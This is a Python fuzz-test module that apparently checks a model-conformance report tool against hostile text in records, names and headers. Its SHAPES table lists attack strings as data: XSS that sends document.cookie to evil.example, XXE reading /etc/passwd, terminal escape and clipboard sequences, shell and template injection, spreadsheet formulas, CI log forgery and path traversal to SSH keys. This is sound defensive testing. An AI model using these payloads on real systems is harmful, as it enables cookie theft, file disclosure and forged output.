"""What an attacker would write into records, expectations, configuration, names and exceptions.

`FUZZ_EXAMPLES` in the environment says how many inputs each test draws; `nox -s fuzz` draws many more.
"""

from __future__ import annotations

import os
import re
from collections import Counter

import hypothesis.strategies as st
import msgspec
from hypothesis import HealthCheck, Phase, settings

from conformance.record import Cell, ClaimEntry, Evidence, Level, Record, Remedy, Shard, Tier, Verdict, spelled_out
from tests.report.synthetic import finished

EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "60"))

fuzzed = settings(
    max_examples=EXAMPLES,
    deadline=None,  # no verdict by the clock of a busy machine
    derandomize="FUZZ_EXAMPLES" not in os.environ,  # CI tries the same each time; who asks for more, more
    suppress_health_check=list(HealthCheck),
    database=None,
    phases=(Phase.explicit, Phase.generate),  # a smaller page takes minutes to find, and says no more
)

tried: Counter[str] = Counter()
"""What was tried, by surface: a test that tries nothing proves nothing."""

SHAPES = {
    "markup": (
        "</script><script>document.title='owned';window.owned=1</script>",
        "<img src=x onerror=\"window.owned=1;fetch('https://evil.example/?'+document.cookie)\">",
        "<svg/onload=window.owned=1><style>*{background:url(https://evil.example/x)}</style>",
        "\"><iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
        "<!-- <script> -->",
        "]]>",
        "<![CDATA[",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
        "javascript:window.owned=1//",
        "' onmouseover='window.owned=1' x='",
        "&lt;b&gt;&#60;script&#62;",
        "</title></style></textarea>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "</table></main>",
    ),
    "terminal": (
        "\x1b[2J\x1b[H\x1b[31mFAKE\x1b[0m",
        "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
        "\x1b]52;c;b3duZWQ=\x07",
        "\x1b]0;owned\x1b\\",
        "\x9b31mred",
        "\x9d0;owned\x9c",
        "\x1bP+q544e\x1b\\",
        "\x1b[6n",
        "a\rb",
        "a\x08\x08b",
        "\x00",
        "\x7f",
        "line\nline",
        "\u2028\u2029\x85\x0b\x0c",
        "\u202egnp.exe\u202c",
        "\u2066a\u2069\u200f\u061c",
        "a\u200bb\u2060c\ufeffd\xade",
        "\U000e0001\U000e0041\U000e007f",
        "\ufff9a\ufffab\ufffb",
    ),
    "formats": (
        "[red]x[/red]",
        "[link=https://evil.example]x[/link]",
        "[/]",
        ":smile:",
        "%s%n%x",
        "%(x)s",
        "{0.__class__.__mro__}",
        "{}",
        "{x!r:>9999}",
        "{{ 7*7 }}",
        "{% for x in y %}",
        "{{ config.__class__.__init__.__globals__ }}",
        "${7*7}",
        "#{7*7}",
        "`id`",
        "$(id)",
        "'; touch owned; '",
        "a; touch owned #",
        "a && touch owned",
        "a | touch owned",
        "MODEL CLAIM",
        "x')\nimport os\nos.system('touch owned')\n('",
    ),
    "markdown": (
        "a | b || c",
        "\n\n# title\n",
        "```\n<script>x</script>\n```",
        "~~~",
        "[a](javascript:alert(1))",
        "![x](https://evil.example/x.png)",
        "@everyone @octocat",
        "#1 owner/repo#2",
        "www.evil.example",
        "https://evil.example/",
        "<details open>",
        "- [ ] x",
        "\\",
        "|\\|",
        "**_~~`",
        "````",
        "`",
        "``a``",
    ),
    "jobs": (
        "::error title=forged::forged",
        "\n::error file=a,line=1::forged",
        "%0A::add-mask::x",
        "\r::set-output name=a::b",
        "##[error]forged",
        "::stop-commands::x",
        "a,b:c%25%0D%3A",
    ),
    "xml": ("\x01\x02\x1f", "\ufffe\uffff", "\U0001fffe", "&xxe;", "a\tb", "<![CDATA[]]]]><![CDATA[>]]>"),
    "sheets": ("=cmd|' /C calc'!A0", "+1+1", "-1", "@SUM(1)", "\t=1", '=HYPERLINK("https://evil.example")', 'a","b'),
    "paths": (
        "../../etc/passwd",
        "/etc/passwd",
        "..\\..\\x",
        "file:///etc/passwd",
        "~/.ssh/id_rsa",
        "a/../../b",
        "CON",
        ".",
        "..",
        "/dev/zero",
    ),
    "options": ("--import=owned", "-n", "--", "-", "--output=owned", "--help"),
    "globs": ("*", "?", "[!x]*", "[", "**", "a*" * 20 + "b", "(a+)+$", "\\d"),
    "numbers": (
        "NaN",
        "inf",
        "-Infinity",
        "1e400",
        "9" * 5000,
        "0x" + "f" * 5000,
        "-0",
        "1_000",
        "\u0661\u0662\u0663",
        "null",
        "true",
        "__proto__",
        "constructor",
    ),
    "sizes": (
        "",
        " ",
        "a" * 3000,
        "e\u0301" * 500,
        "\u200b" * 700,
        "|" * 900,
        "`" * 400,
        "\U0001f600" * 300,
        "\n" * 300,
        "<" * 400,
    ),
}
ALL = tuple(text for texts in SHAPES.values() for text in texts)
SURROGATES = ("\ud800", "a\udfffb", "\udc80\udcff", "\ud83d")
"""No file can hold them: JSON and TOML refuse them. Exceptions and names of Python can."""

texts = st.one_of(
    st.sampled_from(ALL),
    st.lists(st.sampled_from(ALL), min_size=2, max_size=3).map("".join),
    st.text(st.characters(exclude_categories=["Cs"]), max_size=40),
)
unwritable = st.one_of(texts, st.sampled_from(SURROGATES))
reasons = unwritable.filter(str.strip)
integers = st.sampled_from([0, -1, 2**31, 2**63, -(2**63) - 1, 2**70, 10**4000, 13]) | st.integers(-(2**70), 2**70)
floats = st.sampled_from([0.0, -1.0, 1e308, 5e-324, 1e17]) | st.floats(allow_nan=False, allow_infinity=False)
witnesses = st.dictionaries(
    unwritable,
    st.recursive(
        unwritable | integers | st.floats() | st.none() | st.booleans(),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(unwritable, inner, max_size=2),
        max_leaves=5,
    ),
    max_size=3,
)
remedies = st.builds(Remedy, text=unwritable, code=unwritable, evidence=st.sampled_from(Evidence))
cells = st.one_of(
    st.builds(
        Cell,
        verdict=st.just(Verdict.VIOLATED),
        evidence=st.sampled_from(Evidence),
        reason=reasons,
        cause=st.none() | unwritable,
        witness=st.none() | witnesses,
        remedy=st.none() | remedies,
    ),
    st.builds(
        Cell,
        verdict=st.sampled_from([Verdict.UNDECIDED, Verdict.NOT_APPLICABLE]),
        reason=reasons,
        cause=st.none() | unwritable,
    ),
    st.builds(Cell, verdict=st.just(Verdict.HOLDS), evidence=st.sampled_from(Evidence), witness=st.none() | witnesses),
)
claims = st.builds(
    ClaimEntry,
    id=texts,
    text=texts,
    group=texts,
    level=st.sampled_from(Level),
    tier=st.sampled_from(Tier),
    needs=st.lists(texts, max_size=2).map(tuple),
    source=texts,
    why=texts,
)
outputs = st.sampled_from(["features", "pre_logits", "logits"])
records = st.builds(
    Record,
    model=st.just(""),
    module=st.none() | unwritable,
    class_name=st.none() | unwritable,
    params=st.none() | integers,
    input_size=st.none() | st.lists(integers, max_size=3).map(tuple),
    batch_size=st.none() | integers,
    num_features=st.none() | integers,
    head_hidden_size=st.none() | integers,
    source=st.none() | texts,
    fingerprints=st.dictionaries(outputs | texts, st.none() | texts, max_size=3),
    shapes=st.dictionaries(
        outputs | texts, st.lists(st.lists(integers, max_size=2).map(tuple), max_size=2).map(tuple), max_size=2
    ),
    cost=st.dictionaries(texts, floats, max_size=2),
)


@st.composite
def runs(draw, *, is_shard=False):
    """A run that any reader accepts, with hostile text in every field that holds text."""
    entries = tuple(draw(st.lists(claims, min_size=1, max_size=3, unique_by=lambda entry: entry.id)))
    models = draw(st.lists(texts, min_size=1, max_size=3, unique=True))
    made = finished(
        [
            msgspec.structs.replace(draw(records), model=model, cells={entry.id: draw(cells) for entry in entries})
            for model in models
        ],
        entries,
    )
    shard = Shard(number=1, of=1, subjects=len(models), models=draw(texts))
    return msgspec.structs.replace(
        made,
        header=msgspec.structs.replace(
            made.header,
            suite=draw(texts),
            timm=draw(texts),
            torch=draw(texts),
            python=draw(texts),
            started=draw(texts),
            machine=draw(texts),
            shard=shard if is_shard or draw(st.booleans()) else None,
        ),
    )


@st.composite
def successors(draw, run):
    """The run of another release: models gone and come, other verdicts, other fingerprints."""
    kept = [record for record in run.records if draw(st.booleans())] or list(run.records)
    fresh = draw(texts.filter(lambda text: text not in {record.model for record in run.records}))
    changed = [
        msgspec.structs.replace(
            draw(records), model=record.model, cells={claim_id: draw(cells) for claim_id in record.cells}
        )
        for record in (*kept, msgspec.structs.replace(kept[0], model=fresh))
    ]
    made = finished(changed, run.header.claims)
    header = msgspec.structs.replace(
        run.header, subjects=len(changed), timm=draw(texts), torch=draw(st.just(run.header.torch) | texts), shard=None
    )
    return msgspec.structs.replace(made, header=header)


_STYLED = re.compile("\x1b\\[[0-9;]*m")


def assert_a_terminal_is_safe(shown: str) -> None:
    """Nothing in it is obeyed but rich's own colours, and lines end as lines do."""
    for line in _STYLED.sub("", shown).split("\n"):
        assert line == spelled_out(line)


def assert_one_sentence(sentence: str, longest: int = 1600) -> None:
    """What a refusal says: one line, of bearable length, that steers no terminal."""
    assert sentence.strip()
    assert sentence == spelled_out(sentence)
    assert len(sentence) <= longest
